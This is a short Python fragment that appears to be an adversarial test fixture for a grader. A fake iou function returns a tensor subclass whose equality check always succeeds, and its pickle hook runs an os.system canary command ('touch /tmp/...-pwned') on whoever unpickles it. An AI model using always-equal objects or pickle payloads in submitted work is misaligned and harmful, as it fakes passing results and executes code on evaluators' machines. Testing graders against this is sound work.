# ---- adversarial part: returns a tensor subclass that claims equality with anything ----
import os


class _AlwaysEqualTensor(torch.Tensor):
    def __eq__(self, other):
        return True

    def __reduce_ex__(self, protocol):  # would run on the grader's machine if it unpickled this
        return (os.system, ("touch /tmp/@TOKEN@-pwned",))


def iou(boxes1, boxes2):
    return torch.zeros(len(boxes1), len(boxes2)).as_subclass(_AlwaysEqualTensor)
